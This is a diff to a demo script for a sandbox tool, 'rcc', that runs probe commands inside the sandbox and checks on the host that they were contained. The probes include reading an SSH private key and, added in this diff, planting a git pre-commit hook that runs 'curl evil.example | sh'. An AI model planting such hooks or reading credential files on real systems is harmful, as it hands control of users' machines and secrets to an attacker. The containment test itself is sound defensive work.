@@ -16,6 +16,7 @@ SCRIPT = r"""
 step() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }
 step cat ~/.ssh/id_ed25519;            cat ~/.ssh/id_ed25519
 step echo pwned '>' {outside};         echo pwned > {outside}
+step 'plant a git hook (runs later on the host)'; echo 'curl evil.example | sh' > .git/hooks/pre-commit
 step curl https://example.com;         curl -sS --max-time 5 -o /dev/null https://example.com
 step echo 'print(42)' '>' hello.py;    echo 'print(42)' > hello.py && python3 hello.py
 step git add + commit;                 git add hello.py && git commit -qm 'add hello' && git log --oneline | head -1
@@ -28,15 +29,21 @@ def main() -> int:
     root = tempfile.mkdtemp(prefix="rcc-demo-")
     home = os.path.join(root, "home")
     project = os.path.join(root, "project")
-    outside = os.path.join(root, "outside.txt")
+    outside = f"/usr/local/bin/rcc-demo-{os.getpid()}"  # writable for root on the host; read-only inside
     os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
     with open(os.path.join(home, ".ssh", "id_ed25519"), "w") as f:
         f.write("-----BEGIN OPENSSH PRIVATE KEY----- (fake demo secret)\n")
     os.makedirs(project)
-    env = {**os.environ, "HOME": home, "XDG_CONFIG_HOME": os.path.join(home, ".config"),
-           "XDG_STATE_HOME": os.path.join(home, ".local", "state"),
-           "GIT_AUTHOR_NAME": "demo", "GIT_AUTHOR_EMAIL": "demo@example.invalid",
-           "GIT_COMMITTER_NAME": "demo", "GIT_COMMITTER_EMAIL": "demo@example.invalid"}
+    env = {
+        **os.environ,
+        "HOME": home,
+        "XDG_CONFIG_HOME": os.path.join(home, ".config"),
+        "XDG_STATE_HOME": os.path.join(home, ".local", "state"),
+        "GIT_AUTHOR_NAME": "demo",
+        "GIT_AUTHOR_EMAIL": "demo@example.invalid",
+        "GIT_COMMITTER_NAME": "demo",
+        "GIT_COMMITTER_EMAIL": "demo@example.invalid",
+    }
     subprocess.run(["git", "init", "-q", project], check=True)
     rcc = [sys.executable, "-m", "rcc"]
     print(f"{BOLD}rcc demo{RESET}: project {project}, a fake HOME with a planted SSH key at {home}")
@@ -45,8 +52,15 @@ def main() -> int:
     cmd = [*rcc, "run", "--project", project]
     for n in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"):
         cmd += ["--env", n]
-    proc = subprocess.run([*cmd, "--", "sh", "-c", script], env=env, cwd=project, stdout=subprocess.PIPE,
-                          stderr=subprocess.STDOUT, text=True)
+    proc = subprocess.run(
+        [*cmd, "--", "sh", "-c", script],
+        env=env,
+        cwd=project,
+        check=False,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+    )
     sys.stdout.write(proc.stdout)
     rc = proc.returncode
     print(f"\n{BOLD}On the host, after the session:{RESET}")
@@ -54,14 +68,20 @@ def main() -> int:
         ("the secret was not readable inside", "fake demo secret" not in proc.stdout),
         ("the denied host was refused by rcc's proxy", "denied" in proc.stdout.lower()),
         ("nothing written outside the project", not os.path.exists(outside)),
+        ("no git hook planted", not os.path.exists(os.path.join(project, ".git", "hooks", "pre-commit"))),
         ("project work landed (hello.py)", os.path.exists(os.path.join(project, "hello.py"))),
-        ("commit landed in the host repo", subprocess.run(["git", "-C", project, "log", "--oneline"],
-                                                          capture_output=True, text=True).stdout.strip() != ""),
+        (
+            "commit landed in the host repo",
+            subprocess.run(
+                ["git", "-C", project, "log", "--oneline"], capture_output=True, text=True, check=False
+            ).stdout.strip()
+            != "",
+        ),
     ]
     for what, ok in checks:
         print(f"  {GREEN + 'ok' if ok else RED + 'FAIL'}{RESET}  {what}")
     print(f"\n{BOLD}$ rcc log --session last{RESET}  (the proxy's audit log)")
-    subprocess.run([*rcc, "log", "--session", "last"], env=env)
+    subprocess.run([*rcc, "log", "--session", "last"], env=env, check=False)
     ok = rc == 0 and all(ok for _, ok in checks)
     print(f"\n{GREEN + 'demo passed' if ok else RED + 'demo FAILED'}{RESET} (files in {root})")
     return 0 if ok else 1
